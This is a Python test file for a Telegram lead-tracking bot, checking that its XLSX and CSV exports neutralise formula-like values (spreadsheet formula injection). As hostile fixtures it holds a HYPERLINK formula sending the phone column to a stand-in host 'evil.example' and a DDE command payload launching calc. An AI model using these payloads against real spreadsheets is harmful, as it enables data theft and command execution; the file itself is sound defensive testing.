"""A hostile form, a manager's Telegram name and a typed reason cannot put a live formula in
an export: every value that a spreadsheet would take for one (it starts with `=`, `+`, `-`,
`@`, a tab or a carriage return) is text in every sheet of the workbook and starts with `'`
in the CSV. (The intake trims a value's spaces, so a tab or a carriage return in front
reaches only the unit tests of the writers.)"""

from __future__ import annotations

import csv
import io
import re
import zipfile

from aiogram.methods import AnswerCallbackQuery, SendDocument
from aiogram.types import BufferedInputFile, User
from openpyxl import load_workbook

from bot.actions.intake import NewLead
from bot.handlers.common import person_of
from bot.presentation.reports.exports import is_formula_like
from storage import LeadFields, LeadSource
from tests.builders import HEAD, TEAM_CHAT, button_update, private, text_update
from tests.conftest import World
from tests.dispatcher.conftest import add_member, make_team, reply_to, stamped

# The phone is the workbook's column R: the link would send it away.
HOSTILE_PHONE = "+7 912 345-67-89"
LEAK = '=HYPERLINK("http://evil.example/?leak="&R2,"Click")'
HOSTILE = LeadFields(
    name=LEAK,
    phone=HOSTILE_PHONE,
    company="+cmd|' /C calc'!A0",
    industry="-2+3",
    region="@SUM(1+1)",
    message="-1+1",
    product="+1+1",
    channel="=cmd",
    extra={"utm_source": "=1+1", "Ваш вопрос": "=2*2"},
)
MALLORY = User(id=209, is_bot=False, first_name="=1+2", last_name="@x", language_code="ru")
TYPED_REASON = "=2+2 нашли дешевле"


async def hostile_month(world: World) -> int:
    team = await make_team(world)
    await add_member(world, team, MALLORY)
    lead_id = (await world.services.intake.submit(NewLead(HOSTILE, LeadSource.HTTP))).lead_id
    await world.services.claim(lead_id, TEAM_CHAT.id, person_of(MALLORY))
    world.session.expect(AnswerCallbackQuery)
    data = await stamped(world, f"lost:{lead_id}:other")
    await world.feed(button_update(MALLORY, private(MALLORY), data))
    await reply_to(world, MALLORY, TYPED_REASON)
    return lead_id


async def export(world: World, args: str) -> BufferedInputFile:
    world.session.expect(SendDocument)
    await world.feed(text_update(HEAD, private(HEAD), f"/export {args}".strip()))
    document = world.session.of(SendDocument)[-1].document
    assert isinstance(document, BufferedInputFile)
    return document


async def test_no_cell_of_the_workbook_is_a_formula(world: World) -> None:
    await hostile_month(world)
    data = (await export(world, "")).data
    with zipfile.ZipFile(io.BytesIO(data)) as files:
        sheets = [n for n in files.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 4
        for name in sheets:
            assert not re.search(rb"<f[ >]", files.read(name)), name  # no formula element
    book = load_workbook(io.BytesIO(data))
    assert all(len(title) <= 31 for title in book.sheetnames)
    hostile = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if is_formula_like(cell.value)
    ]
    found = {cell.value for cell in hostile}
    # Each hostile value reached the file, in the leads, the summary and the history.
    for value in (LEAK, HOSTILE.company, "-2+3", "@SUM(1+1)", "-1+1", "+1+1", "=cmd"):
        assert value in found, value
    assert "=1+1" in found and "Ваш вопрос: =2*2" not in found  # starts with the label
    assert "=1+2 @x" in found  # the manager, in the leads, the summary and the history
    assert {cell.parent.title for cell in hostile if cell.value == "=1+2 @x"} == {
        "Лиды", "Итоги", "История",
    }  # fmt: skip
    assert any(str(v).startswith("=cmd") for v in found)  # the channel, in "Каналы" too
    # Text, and still text when someone edits the cell; a phone in our own form ("+", digits,
    # spaces, hyphens) can make no formula that does anything: a plain text cell.
    phones = [cell for cell in hostile if cell.value == HOSTILE_PHONE]
    assert phones and all(cell.data_type == "s" for cell in phones)
    typed = [cell for cell in hostile if cell.value != HOSTILE_PHONE]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in typed)


async def test_no_field_of_the_csv_is_a_formula(world: World) -> None:
    await hostile_month(world)
    text = (await export(world, "csv")).data.decode("utf-8-sig")
    heading, row = csv.reader(io.StringIO(text), delimiter=";")
    fields = dict(zip(heading, row, strict=True))
    assert not [value for value in row if is_formula_like(value)]
    assert fields["Имя"] == "'" + LEAK
    assert fields["Компания"] == "'+cmd|' /C calc'!A0"
    assert (fields["Отрасль"], fields["Регион (где работает)"]) == ("'-2+3", "'@SUM(1+1)")
    assert (fields["Запрос"], fields["Продукт"]) == ("'-1+1", "'+1+1")
    assert (fields["Канал"], fields["UTM: источник"]) == ("'=cmd", "'=1+1")
    assert fields["Менеджер"] == fields["Кем взят впервые"] == "'=1+2 @x"
    assert fields["Причина отказа"] == "Другое: " + TYPED_REASON
